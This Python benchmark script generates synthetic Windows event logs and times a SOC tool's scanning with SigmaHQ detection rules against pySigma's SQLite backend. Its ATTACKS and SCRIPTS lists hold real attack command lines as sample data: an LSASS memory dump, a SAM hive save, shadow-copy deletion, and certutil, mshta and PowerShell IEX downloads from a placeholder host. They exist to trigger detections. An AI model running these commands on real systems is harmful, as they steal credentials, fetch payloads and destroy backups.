"""Benchmark: SigmaHQ's Windows rules over a generated Windows event store, soc vs pySigma's SQLite backend.

Generates N Windows events (Sysmon process/network/image-load/file/registry/DNS/process-access, Security logons and
process creation, System service installs, PowerShell script blocks; ~0.1 % attack command lines) with the field
shapes the windows_json parser stores (``winlog.event_data.<Name>``) over 7 day partitions, then times:

* ``soc scan --full`` with every rule of ``/work/ext/sigma/rules/windows`` (or ``--rules``): first scan (rules
  not compiled yet) vs the SQLite backend's conversion + queries; later full scan (compile cache) vs its queries
  alone (target ≥ 10×);
* the cached full scan with half the rules, and with ``--scale`` × the events (target ≤ ``scale`` × the time).

    python bench/scan_sigmahq.py [--events 1000000] [--scale 10] [--rules DIR] [--no-sqlite]
"""

from __future__ import annotations

import argparse
import re
import shutil
import sqlite3
import sys
import tempfile
import time
from pathlib import Path

from sigma.backends.sqlite import sqliteBackend
from sigma.collection import SigmaCollection
from sigma.exceptions import SigmaError

from soc.config import from_dict
from soc.detect.pipeline import ecs_pipeline
from soc.detect.rules import rule_files
from soc.store.duck import connect
from soc.store.embedded import EventStore
from soc.store.events_api import ArrowBatch
from soc.triage.intake import scan as run_scan

SIGMA_WINDOWS = Path("/work/ext/sigma/rules/windows")
SYSMON = "Microsoft-Windows-Sysmon/Operational"
ED = "winlog.event_data."
# (channel, event id, share in ‰)
KINDS = [(SYSMON, "1", 300), (SYSMON, "3", 100), (SYSMON, "7", 150), (SYSMON, "11", 100), (SYSMON, "13", 80),
         (SYSMON, "22", 60), (SYSMON, "10", 30), ("Security", "4624", 60), ("Security", "4625", 20),
         ("Security", "4688", 60), ("Security", "4672", 20), ("System", "7045", 5),
         ("Microsoft-Windows-PowerShell/Operational", "4104", 15)]
IMAGES = [r"C:\Windows\System32\svchost.exe", r"C:\Windows\explorer.exe", r"C:\Windows\System32\conhost.exe",
          r"C:\Program Files\Google\Chrome\Application\chrome.exe", r"C:\Windows\System32\taskhostw.exe",
          r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE", r"C:\Windows\System32\RuntimeBroker.exe"]
CMDS = [r"C:\Windows\system32\svchost.exe -k netsvcs -p -s Schedule", r"C:\Windows\Explorer.EXE",
        r"\??\C:\Windows\system32\conhost.exe 0xffffffff -ForceV1",
        r'"C:\Program Files\Google\Chrome\Application\chrome.exe" --type=renderer --lang=vi',
        r"taskhostw.exe {222A245B-E637-4AE9-A93F-A59CA119A75E}",
        r'"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE" /n "C:\Users\lan\Documents\bao-cao.docx"',
        r"C:\Windows\System32\RuntimeBroker.exe -Embedding"]
ATTACKS = [(r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
            "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMA"),
           (r"C:\Windows\System32\rundll32.exe",
            r"rundll32.exe C:\windows\System32\comsvcs.dll, MiniDump 624 C:\temp\lsass.dmp full"),
           (r"C:\Windows\System32\certutil.exe", "certutil.exe -urlcache -split -f http://203.0.113.5/a.exe a.exe"),
           (r"C:\Windows\System32\vssadmin.exe", "vssadmin.exe delete shadows /all /quiet"),
           (r"C:\Windows\System32\reg.exe", r"reg.exe save HKLM\SAM C:\temp\sam.save"),
           (r"C:\Windows\System32\mshta.exe", "mshta.exe http://203.0.113.5/x.hta"),
           (r"C:\Windows\System32\schtasks.exe",
            r"schtasks /create /sc minute /tn upd /tr C:\Users\Public\a.exe")]
PARENTS = [r"C:\Windows\System32\services.exe", r"C:\Windows\explorer.exe", r"C:\Windows\System32\svchost.exe",
           r"C:\Windows\System32\cmd.exe", r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE"]
REGISTRY = [r"HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Run\OneDrive",
            r"HKU\S-1-5-21-1-2-3-1001\Software\Microsoft\Windows\CurrentVersion\Explorer\RecentDocs\.docx",
            r"HKLM\System\CurrentControlSet\Services\bam\State\UserSettings\S-1-5-18"]
FILES = [r"C:\Users\lan\AppData\Local\Temp\~DF12AB.tmp", r"C:\Users\lan\Documents\bao-cao.docx",
         r"C:\Windows\Prefetch\CHROME.EXE-1A2B3C4D.pf", r"C:\Users\Public\a.exe"]
DLLS = [r"C:\Windows\System32\ntdll.dll", r"C:\Windows\System32\kernel32.dll", r"C:\Windows\System32\dbghelp.dll",
        r"C:\Windows\System32\wininet.dll"]
DOMAINS = ["www.google.com", "update.microsoft.com", "dichvucong.gov.vn", "pastebin.com", "a1b2.ngrok.io"]
SCRIPTS = ["Get-ChildItem C:\\Users", "Import-Module ActiveDirectory; Get-ADUser -Filter *",
           "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.5/a.ps1')", "Get-Process | Sort CPU"]


def _lst(items: list[str]) -> str:
    return "[" + ", ".join("'" + i.replace("'", "''") + "'" for i in items) + "]"


def _pick(items: list[str], salt: int = 1) -> str:
    return f"{_lst(items)}[1 + ((i * {salt}) % {len(items)})]"


def generate(data_dir: Path, n: int, days: int = 7) -> None:
    """Write ``n`` Windows events as Parquet partitions (one append per day)."""
    con = connect()
    bounds, acc = [], 0
    for channel, eid, share in KINDS:
        bounds.append((acc, acc + share, channel, eid))
        acc += share
    kind = " ".join(f"WHEN i % {acc} < {hi} THEN {k}" for k, (_, hi, _, _) in enumerate(bounds))
    attack = "(i % 997 = 13)"
    img = f"CASE WHEN {attack} THEN {_lst([a[0] for a in ATTACKS])}[1 + (i // 997) % {len(ATTACKS)}] " \
          f"ELSE {_pick(IMAGES)} END"
    cmd = f"CASE WHEN {attack} THEN {_lst([a[1] for a in ATTACKS])}[1 + (i // 997) % {len(ATTACKS)}] " \
          f"ELSE {_pick(CMDS)} END"
    per_kind = {  # event_data fields per kind index
        0: {"Image": img, "CommandLine": cmd, "ParentImage": _pick(PARENTS, 3), "User": "'CORP\\lan'",
            "OriginalFileName": f"regexp_extract({img}, '[^\\\\]+$')", "IntegrityLevel": "'Medium'",
            "CurrentDirectory": "'C:\\Users\\lan\\'", "ParentCommandLine": _pick(PARENTS, 3),
            "Hashes": "'SHA256=' || md5(i::VARCHAR)"},
        1: {"Image": _pick(IMAGES), "DestinationIp": "'203.0.113.' || (i % 250)", "DestinationPort": "'443'",
            "Initiated": "'true'", "Protocol": "'tcp'", "SourceIp": "'10.1.' || (i % 200) || '.5'",
            "DestinationHostname": _pick(DOMAINS)},
        2: {"Image": _pick(IMAGES), "ImageLoaded": _pick(DLLS, 5), "Signed": "'true'",
            "Signature": "'Microsoft Windows'"},
        3: {"Image": _pick(IMAGES), "TargetFilename": _pick(FILES, 7)},
        4: {"Image": _pick(IMAGES), "TargetObject": _pick(REGISTRY, 3), "EventType": "'SetValue'",
            "Details": "'DWORD (0x00000001)'"},
        5: {"Image": _pick(IMAGES), "QueryName": f"CASE WHEN {attack} THEN 'a1b2.ngrok.io' ELSE {_pick(DOMAINS[:3])} END"},
        6: {"SourceImage": _pick(IMAGES), "TargetImage": "'C:\\Windows\\system32\\lsass.exe'",
            "GrantedAccess": f"CASE WHEN {attack} THEN '0x1010' ELSE '0x1000' END", "CallTrace": "'C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4'"},
        7: {"TargetUserName": "'user' || (i % 50)", "LogonType": "'3'", "IpAddress": "'10.1.' || (i % 200) || '.5'",
            "WorkstationName": "'PC-' || (i % 300)", "AuthenticationPackageName": "'NTLM'"},
        8: {"TargetUserName": "'admin'", "LogonType": "'3'", "IpAddress": "'203.0.113.' || (i % 250)",
            "Status": "'0xc000006d'", "SubStatus": "'0xc000006a'"},
        9: {"NewProcessName": img, "CommandLine": cmd, "SubjectUserName": "'lan'", "ParentProcessName": _pick(PARENTS)},
        10: {"SubjectUserName": "'user' || (i % 50)", "PrivilegeList": "'SeDebugPrivilege'"},
        11: {"ServiceName": "'upd' || (i % 9)", "ImagePath": "'%SystemRoot%\\System32\\svchost.exe -k upd'",
             "ServiceType": "'user mode service'", "StartType": "'auto start'"},
        12: {"ScriptBlockText": _pick(SCRIPTS), "Path": "''"},
    }
    fields = sorted({f for spec in per_kind.values() for f in spec})
    cols = []
    for f in fields:
        cases = " ".join(f"WHEN {k} THEN {spec[f]}" for k, spec in per_kind.items() if f in spec)
        cols.append(f'CASE k {cases} END AS "{ED}{f}"')
    channel = " ".join(f"WHEN {k} THEN '{c}'" for k, (_, _, c, _) in enumerate(bounds))
    event_id = " ".join(f"WHEN {k} THEN '{e}'" for k, (_, _, _, e) in enumerate(bounds))
    per_day = n // days
    store = EventStore(data_dir)
    for day in range(days):
        lo, hi = day * per_day, (day + 1) * per_day if day < days - 1 else n
        con.execute(f"""
            CREATE OR REPLACE TABLE batch AS SELECT *, concat_ws(' ', "winlog.channel", "winlog.event_id",
                "{ED}Image", "{ED}CommandLine", "{ED}TargetObject", "{ED}QueryName") AS "event.original"
            FROM (SELECT 'win' || i AS "event.id", 'windows.eventlog' AS "event.dataset",
                TIMESTAMP '2026-11-01 00:00:00' + to_microseconds((i * {days} * 86400000000 // {n})::BIGINT)
                  AS "@timestamp",
                TIMESTAMP '2026-11-01 00:00:00' + INTERVAL {day + 1} DAY AS "event.ingested",
                CASE {channel} END AS "winlog.channel", CASE {event_id} END AS "winlog.event_id",
                'PC-' || (i % 300) AS "host.hostname", 'PC-' || (i % 300) AS "winlog.computer_name",
                {", ".join(cols)}
              FROM (SELECT i, CASE {kind} END AS k FROM range({lo}, {hi}) t(i)))""")
        with store.write_lock():
            store.append(ArrowBatch(con.table("batch").to_arrow_table()))


def sqlite_side(data_dir: Path, rules: list[Path]) -> tuple[float, float, float, int, int]:
    """(load s, conversion s, query s, queries, rules refused) with pySigma's SQLite backend, as Zircolite runs."""
    t = time.perf_counter()
    con = EventStore(data_dir).open_events()
    cols = [d[0] for d in con.execute("SELECT * FROM events LIMIT 0").description]
    cols = [c for c in cols if not con.execute(f'SELECT typeof("{c}") FROM events LIMIT 1').fetchone()[0].endswith("[]")]
    db = sqlite3.connect(":memory:")
    db.create_function("regexp", 2, lambda p, v: v is not None and re.search(p, str(v)) is not None, deterministic=True)
    db.execute("CREATE TABLE logs (" + ", ".join(f'"{c}" COLLATE NOCASE' for c in cols) + ")")
    cur = con.execute("SELECT " + ", ".join(f'"{c}"' for c in cols) + " FROM events")
    while rows := cur.fetchmany(100_000):
        db.executemany(f"INSERT INTO logs VALUES ({','.join('?' * len(cols))})", rows)
    load = time.perf_counter() - t
    t = time.perf_counter()
    queries, refused = [], 0
    for path in rules:
        try:
            coll = SigmaCollection.from_yaml(path.read_text(encoding="utf-8"))
            queries.extend(sqliteBackend(ecs_pipeline(), collate_nocase=True,
                                         fulltext_field="event.original").convert(coll))
        except (SigmaError, ValueError, TypeError, KeyError, NotImplementedError):
            refused += 1
    conversion = time.perf_counter() - t
    t = time.perf_counter()
    for q in queries:
        try:
            db.execute(q.replace("SELECT *", "SELECT count(*)", 1)).fetchone()
        except sqlite3.Error:
            refused += 1
    return load, conversion, time.perf_counter() - t, len(queries), refused


def soc_scan(data_dir: Path, rules: Path, full: bool = True):
    summary = run_scan(from_dict({}, data_dir=data_dir), rules_dir=rules, full=full)
    return summary


def main() -> None:
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("--events", type=int, default=1_000_000)
    ap.add_argument("--scale", type=int, default=10, help="events multiplier for the growth figure (0: skip)")
    ap.add_argument("--rules", type=Path, default=SIGMA_WINDOWS)
    ap.add_argument("--no-sqlite", action="store_true", help="skip pySigma's SQLite backend")
    args = ap.parse_args()
    if not args.rules.is_dir():
        print(f"skipped: no SigmaHQ Windows rules at {args.rules} (clone SigmaHQ/sigma there or pass --rules)")
        sys.exit(0)
    files = rule_files(args.rules)
    with tempfile.TemporaryDirectory(prefix="soc-bench-sigmahq-") as tmp:
        data = Path(tmp) / "data"
        t = time.perf_counter()
        generate(data, args.events)
        n = args.events
        print(f"generated {n:,} Windows events in {time.perf_counter() - t:.1f}s; {len(files)} rule files")
        first = soc_scan(data, args.rules)
        print(f"soc scan --full, first (compiling): {first}")
        cached = soc_scan(data, args.rules)
        rate = n * cached.rules / cached.seconds
        print(f"soc scan --full, cached rules    : {cached}\n   {rate:,.0f} rules×events/s")
        half = Path(tmp) / "half"
        for path in files[::2]:
            dest = half / path.relative_to(args.rules)
            dest.parent.mkdir(parents=True, exist_ok=True)
            shutil.copy(path, dest)
        soc_scan(data, half)  # compiles nothing new: the cache is keyed by content
        halved = soc_scan(data, half)
        print(f"half the rules, cached           : {halved}")
        if not args.no_sqlite:
            load, conv, queries, nq, refused = sqlite_side(data, files)
            print(f"pySigma SQLite backend: load {load:.1f}s, conversion {conv:.1f}s, {nq} queries {queries:.1f}s "
                  f"({refused} rules/queries refused)")
            print(f"  first scan  {first.seconds:7.1f}s vs conversion + queries {conv + queries:7.1f}s: "
                  f"{(conv + queries) / first.seconds:.1f}× (target ≥ 1×)")
            print(f"  cached scan {cached.seconds:7.1f}s vs queries alone       {queries:7.1f}s: "
                  f"{queries / cached.seconds:.1f}× (target ≥ 10×)")
        if args.scale > 1:
            big = Path(tmp) / "big"
            shutil.copytree(data / "cache", big / "cache")  # the same compiled rules
            generate(big, n * args.scale)
            soc_scan(big, args.rules)  # alerts of the first scan written (upserts later, as for the cached run)
            grown = soc_scan(big, args.rules)
            print(f"{args.scale}× the events, cached     : {grown}\n   {grown.seconds / cached.seconds:.1f}× the time "
                  f"(target ≤ {args.scale}×)")


if __name__ == "__main__":
    main()
